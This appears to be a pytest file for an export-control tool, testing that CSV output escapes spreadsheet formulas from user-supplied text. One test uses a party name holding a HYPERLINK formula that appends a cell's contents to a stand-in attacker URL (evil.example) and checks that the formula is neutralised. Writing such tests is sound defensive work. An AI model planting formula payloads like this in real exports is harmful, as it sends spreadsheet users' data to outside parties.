"""Issue 11: CSV output never carries a spreadsheet formula from user-supplied text."""

from __future__ import annotations

import csv
import io

import pytest

from exportguard.cli.output import spreadsheet_safe
from exportguard.domain.access import Actor, Role
from exportguard.services.parties.registry import NewParty, register_party
from exportguard.services.system import ExportGuard
from tests.cli.conftest import _invoke_on, url_of


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ('=HYPERLINK("http://x.example","click")', '\'=HYPERLINK("http://x.example","click")'),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("-12.50", "-12.50"),
        ("Baykar", "Baykar"),
    ],
)
def test_spreadsheet_safe(text: str, written: str) -> None:
    assert spreadsheet_safe(text) == written


def test_a_party_named_as_a_formula_is_written_as_text(
    committed_eg: ExportGuard, monkeypatch: pytest.MonkeyPatch
) -> None:
    name = '=HYPERLINK("http://evil.example/?"&A1,"Invoice")'
    with committed_eg.uow(Actor("officer", Role.OFFICER)) as uow:
        register_party(uow, NewParty(name=name, country="CA"))
    result = _invoke_on(url_of(committed_eg), monkeypatch)("parties", "list", "--format", "csv")
    assert result.exit_code == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert ["'" + name] == [r["name"] for r in rows if "HYPERLINK" in r["name"]]
